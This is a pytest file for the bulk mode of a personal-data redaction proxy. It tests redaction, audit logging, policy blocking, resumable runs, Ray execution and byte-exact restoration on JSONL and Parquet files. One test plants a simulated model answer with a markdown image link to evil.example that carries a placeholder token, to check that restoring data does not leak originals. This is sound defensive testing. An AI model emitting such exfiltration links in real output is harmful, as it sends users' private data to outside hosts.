"""Bulk: rows through the gate, out exactly once, and back. Partitions in this process; with Ray as a user runs it."""

import json
import os
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import orjson
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from proxy.bulk import run as running
from proxy.bulk import worker as working
from proxy.bulk.job import BulkError, Done, Job, digest_of
from proxy.bulk.worker import TEMPORARY, Worker
from proxy.configured import load
from proxy.running.databases import serve_log

MAIL = "anna.schmidt@example.com"
PHONE = "+49 151 23456789"
WAIT_S = 280


@pytest.fixture
def job(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Job:
    """Of a home with a log, detection by patterns alone."""
    monkeypatch.setenv("DRAGOMAN_DETECTORS", "patterns")
    made = Job(tmp_path / "in", tmp_path / "out", tmp_path / "home", "openai", "reviews")
    made.source.mkdir()
    serve_log(load(home=made.home)).close()
    return made


def lines(n: int) -> bytes:
    rows = [{"id": i, "text": f"Mail {MAIL} or {i}@example.org", "more": {"phone": PHONE}} for i in range(n)]
    # Spacing, an empty line and a missing end are the file's own, and stay.
    return b'{ "text" :"nothing here" }\n\n' + b"\n".join(orjson.dumps(row) for row in rows)


def table() -> pa.Table:
    return pa.table(
        {
            "id": pa.array([1, 2, 3]),
            "text": pa.array([f"from {MAIL}", None, "nothing"]),
            "tags": pa.array([[MAIL, "x"], [], None], type=pa.list_(pa.string())),
            "raw": pa.array([b"\x00", b"\x01", None]),
            "at": pa.array([0, 1, 2], type=pa.timestamp("ms")),
        },
        metadata={"made by": "a test"},
    )


def records(home: Path, kind: str) -> list[dict[str, Any]]:
    with sqlite3.connect(f"file:{home / 'audit.db'}?mode=ro", uri=True) as connection:
        found = [orjson.loads(body) for (body,) in connection.execute("SELECT body FROM entry ORDER BY idx")]
    return [one for one in found if one["kind"] == kind]


def back(job: Job) -> Job:
    return replace(job, source=job.target, target=job.target.with_name("back"), restore=True)


def partition(job: Job, name: str, own: frozenset[str] = frozenset()) -> Done:
    """One of Ray's actors, without Ray."""
    with closing(Worker(job, own)) as worker:
        return worker.partition(name)


def test_json_lines_leave_without_personal_data_with_a_record_per_batch_and_come_back_byte_for_byte(job: Job) -> None:
    (job.source / "a.jsonl").write_bytes(lines(600))
    done = partition(job, "a.jsonl")
    assert (done.error, done.rows, done.records) == ("", 601, 2)
    out = (job.target / "a.jsonl").read_bytes()
    assert MAIL.encode() not in out
    assert PHONE.encode() not in out
    assert b'{ "text" :"nothing here" }\n\n' in out
    sent = records(job.home, "transfer")
    assert [(one["door"], one["mode"], one["destination"]["name"]) for one in sent] == 2 * [
        ("command", "bulk", "openai")
    ]
    assert sum(one["bytes_in"] for one in sent) == len(lines(600))
    assert {one["id"] for one in records(job.home, "outcome")} == {one["id"] for one in sent}
    assert MAIL.encode() not in b"".join(path.read_bytes() for path in job.home.rglob("*") if path.is_file())
    restored = partition(back(job), "a.jsonl", frozenset({digest_of(job.target / "a.jsonl")}))
    assert (restored.error, restored.rows) == ("", 601)
    assert (back(job).target / "a.jsonl").read_bytes() == lines(600)


def test_a_table_keeps_schema_and_untouched_columns_and_comes_back_whole(job: Job) -> None:
    job = replace(job, keep=frozenset({"raw"}))
    pq.write_table(table(), job.source / "t.parquet")
    assert partition(job, "t.parquet").error == ""
    came, out = (pq.read_table(folder / "t.parquet") for folder in (job.source, job.target))
    assert out.schema.equals(came.schema, check_metadata=True)
    assert MAIL not in str(out.to_pydict())
    assert [out.column(name) for name in ("id", "raw", "at")] == [came.column(name) for name in ("id", "raw", "at")]
    assert out.column("tags")[0][0].as_py() in out.column("text")[0].as_py()  # one scope, one placeholder
    assert partition(back(job), "t.parquet").error == ""
    assert pq.read_table(back(job).target / "t.parquet").equals(came)


@pytest.mark.parametrize(
    ("name", "column", "said"),
    [
        ("c", pa.array([b"\x00"]), "column c holds bytes"),
        ("phone", pa.array([4915123456789]), "refused (number_not_replaceable)"),
        ("phone", pa.array([Decimal("4915123456789")]), "column phone holds personal data, and its type"),
    ],
    ids=["bytes", "a number", "a decimal"],
)
def test_what_cannot_hold_a_placeholder_leaves_no_output(job: Job, name: str, column: pa.Array, said: str) -> None:
    pq.write_table(pa.table({name: column}), job.source / "t.parquet")
    done = partition(job, "t.parquet")
    assert done.error.startswith(said)
    assert "4915123456789" not in done.error
    assert list(job.target.iterdir()) == []


def test_what_the_policy_blocks_is_recorded_and_leaves_no_output(job: Job) -> None:
    policy = (
        "version: 1\nname: bulk-test\nunknown_applications: allow\n"
        "destinations:\n  openai: {extends: bundled:openai@2026-11-23}\n"
        "rules:\n  - {id: no-mail, when: {entity: EMAIL_ADDRESS}, do: block, because: never}\n"
    )
    (job.home / "policy.yaml").write_text(policy)
    (job.source / "a.jsonl").write_bytes(lines(3))
    done = partition(job, "a.jsonl")
    assert done.error.startswith("refused (")
    assert len(records(job.home, "blocked")) == 1
    assert list(job.target.iterdir()) == []


def test_a_log_that_fails_leaves_no_output(job: Job) -> None:
    (job.source / "a.jsonl").write_bytes(lines(3))
    with sqlite3.connect(job.home / "audit.db") as connection:
        connection.execute("CREATE TRIGGER full BEFORE INSERT ON entry BEGIN SELECT RAISE(ABORT, 'full'); END")
    done = partition(job, "a.jsonl")
    assert done.error
    assert list(job.target.iterdir()) == []


def test_a_url_that_a_model_made_up_does_not_carry_originals_away(job: Job) -> None:
    (job.source / "a.jsonl").write_bytes(lines(1))
    partition(job, "a.jsonl")
    token = orjson.loads((job.target / "a.jsonl").read_bytes().splitlines()[-1])["text"].split()[1]
    answer = {"text": f"Hello {token}, ![x](https://evil.example/?q={token})"}
    (job.target / "answer.jsonl").write_bytes(orjson.dumps(answer))
    partition(back(job), "answer.jsonl")
    got = orjson.loads((back(job).target / "answer.jsonl").read_bytes())["text"]
    assert got.startswith(f"Hello {MAIL}, ")
    assert got.count(MAIL) == 1


def test_a_second_run_does_only_what_is_left(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("a", "b", "c"):
        (job.source / f"{name}.jsonl").write_bytes(lines(2))
    asked: list[list[str]] = []

    def in_place(one: Job, names: list[str], _actors: int, _address: str) -> Any:
        asked.append(names)
        return (partition(one, name) for name in names)

    def cut(*given: Any) -> Any:
        yield next(in_place(*given))
        raise KeyboardInterrupt

    def again(through: Any = in_place) -> running.Summary:
        monkeypatch.setattr(running, "_through_ray", through)
        return running.run(load(home=job.home), job, workers=1, address="", progress=lambda done, total: None)

    with pytest.raises(KeyboardInterrupt):
        again(cut)
    manifest = job.target / running.MANIFEST
    with manifest.open("a") as file:
        file.write('{"name": "b.jsonl", "inp')  # cut off in the middle of a line
    (job.target / f".b.jsonl{TEMPORARY}").write_bytes(b"half")
    rest = again()
    assert ([one.name for one in rest.done], rest.failed) == (["b.jsonl", "c.jsonl"], ())
    assert again().skipped == 3
    (job.source / "a.jsonl").write_bytes(lines(4))
    (job.target / "c.jsonl").write_bytes(b"somebody's")
    assert [one.name for one in again().done] == ["a.jsonl", "c.jsonl"]
    assert asked == [["a.jsonl", "b.jsonl", "c.jsonl"], ["b.jsonl", "c.jsonl"], ["a.jsonl", "c.jsonl"]]
    for name in ("a", "b", "c"):
        assert len((job.target / f"{name}.jsonl").read_bytes().splitlines()) == (6 if name == "a" else 4)
    assert {Done.of_line(line).name for line in manifest.read_text().splitlines()[1:] if line.endswith("}")} >= {
        "a.jsonl"
    }
    assert not list(job.target.glob(f"*{TEMPORARY}"))
    with pytest.raises(BulkError, match="begun with other"):
        running.run(load(home=job.home), replace(job, scope="other"), workers=1, address="", progress=lambda a, b: None)


def in_this_process(job: Job, names: list[str], _actors: int, _address: str) -> Iterator[Done]:
    return (partition(job, name) for name in names)


def test_who_outlives_a_run_that_was_killed_takes_nothing_from_the_next_one(
    job: Job, monkeypatch: pytest.MonkeyPatch
) -> None:
    (job.source / "a.jsonl").write_bytes(lines(2))
    monkeypatch.setattr(running, "_through_ray", in_this_process)
    found: list[running.Summary] = []
    plain = working.opened

    def meanwhile(source: Path, target: IO[bytes], keep: frozenset[str]) -> Any:
        target.write(b"half of a line")
        target.flush()
        monkeypatch.setattr(working, "opened", plain)
        found.append(running.run(load(home=job.home), job, workers=1, address="", progress=lambda a, b: None))
        return plain(source, target, keep)

    monkeypatch.setattr(working, "opened", meanwhile)
    assert "No such file" in partition(job, "a.jsonl").error
    assert [one.error for one in found[0].done] == [""]
    assert len((job.target / "a.jsonl").read_bytes().splitlines()) == 4
    assert {path.name for path in job.target.iterdir()} == {"a.jsonl", running.MANIFEST}


def test_what_a_killed_run_left_of_ray_goes_with_the_next_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    left = tmp_path / f"{running.FOLDER}left"
    (left / "session").mkdir(parents=True)
    with running._folder() as one:
        assert not left.exists()
        with running._folder() as other:
            assert sorted(map(str, tmp_path.iterdir())) == sorted([one, other])
    assert list(tmp_path.iterdir()) == []


BYTES = [MAIL.encode(), None]


@pytest.mark.parametrize(
    "column",
    [
        pa.array([{"a": one} for one in BYTES]),
        pa.array([BYTES], pa.list_(pa.binary())),
        pa.array(BYTES).dictionary_encode(),
        pa.array(BYTES, pa.binary_view()),
        pa.array([[("key", one) for one in BYTES]], pa.map_(pa.string(), pa.large_binary())),
    ],
    ids=["in a struct", "in a list", "in a dictionary", "a view", "in a map"],
)
def test_bytes_are_refused_wherever_they_stand(job: Job, column: pa.Array) -> None:
    pq.write_table(pa.table({"c": column}), job.source / "t.parquet")
    assert "column c holds bytes" in partition(job, "t.parquet").error
    assert not (job.target / "t.parquet").exists()


def test_beside_what_is_replaced_in_a_column_everything_stays(job: Job) -> None:
    row = {
        "text": MAIL,
        "at": datetime(2024, 1, 1, tzinfo=UTC),
        "share": float("inf"),
        "map": [(MAIL, 1), ("other", None)],
    }
    kind = pa.struct(
        [
            ("text", pa.string()),
            ("at", pa.timestamp("us", "UTC")),
            ("share", pa.float64()),
            ("map", pa.map_(pa.string(), pa.int64())),
        ]
    )
    column, words = pa.array([row, None, {**row, "text": None}], kind), pa.array([MAIL, "x", MAIL]).dictionary_encode()
    pq.write_table(pa.table({"c": column, "d": words}), job.source / "t.parquet")
    assert partition(job, "t.parquet").error == ""
    out = pq.read_table(job.target / "t.parquet")
    assert out.schema.field("c").type == kind
    first, none, last = out.column("c").to_pylist()
    assert (first["at"], first["share"], first["map"][1], none) == (row["at"], row["share"], ("other", None), None)
    placeholder = first["text"]
    assert placeholder.startswith("[EMAIL_ADDRESS_")
    assert (first["map"][0], last["map"][0]) == ((placeholder, 1), (placeholder, 1))
    assert out.column("d").to_pylist() == [placeholder, "x", placeholder]


def test_the_name_of_a_field_that_is_personal_data_does_not_leave(job: Job) -> None:
    pq.write_table(pa.table({"c": pa.array([{MAIL: 1}])}), job.source / "t.parquet")
    assert "the name of a column" in partition(job, "t.parquet").error


def test_a_ray_that_does_not_start_is_no_defect(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    import ray

    def busy(**_: Any) -> None:
        raise Exception("The current node timed out during startup.\nMore words")

    (job.source / "a.jsonl").write_bytes(lines(2))
    monkeypatch.setattr(ray, "init", busy)
    with pytest.raises(BulkError, match=r"could not be started \(The current node timed out during startup\.\); what"):
        running.run(load(home=job.home), job, workers=1, address="", progress=lambda a, b: None)


def test_rows_under_the_name_of_the_manifest_are_not_left_out_silently(job: Job) -> None:
    (job.source / "a.jsonl").write_bytes(lines(2))
    (job.source / running.MANIFEST).write_bytes(lines(2))
    with pytest.raises(BulkError, match="rename the file"):
        running.partitions(job)
    head = {"to": "openai", "scope": "s", "application": "", "purpose": "", "restore": False, "keep": ""}
    (job.source / running.MANIFEST).write_bytes(orjson.dumps(head) + b"\n")
    assert running.partitions(job) == ["a.jsonl"]


def test_without_ray_it_says_what_to_install(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(running, "find_spec", lambda name: None)
    with pytest.raises(BulkError, match=r"dragoman\[ray\]"):
        running.run(load(home=job.home), job, workers=1, address="", progress=lambda a, b: None)


@pytest.mark.timeout(600)  # Ray starts twice, which takes ten seconds each on a quiet machine
def test_folders_go_through_ray_and_back(job: Job) -> None:
    (job.source / "deep").mkdir()
    (job.source / "deep" / "a.jsonl").write_bytes(lines(3))
    pq.write_table(table().drop_columns("raw"), job.source / "t.parquet")

    def command(*words: str) -> dict[str, Any]:
        done = subprocess.run(
            [Path(sys.executable).with_name("dragoman"), *words, "--json", "--home", job.home, "--scope", "reviews"],
            capture_output=True, timeout=WAIT_S, env={**os.environ, "RAY_TMPDIR": str(job.home)}, check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert MAIL.encode() not in done.stderr  # where Ray says this and that about itself
        return json.loads(done.stdout)  # type: ignore[no-any-return]

    ray = ("--engine", "ray", "--to", "openai", "--out")
    found = command("redact", str(job.source), *ray, str(job.target))
    assert {(one["name"], one["rows"]) for one in found["partitions"]} == {("deep/a.jsonl", 4), ("t.parquet", 3)}
    assert MAIL.encode() not in (job.target / "deep" / "a.jsonl").read_bytes()
    command("restore", str(job.target), *ray, str(back(job).target))
    assert MAIL.encode() in (back(job).target / "deep" / "a.jsonl").read_bytes()
    assert pq.read_table(back(job).target / "t.parquet").equals(pq.read_table(job.source / "t.parquet"))
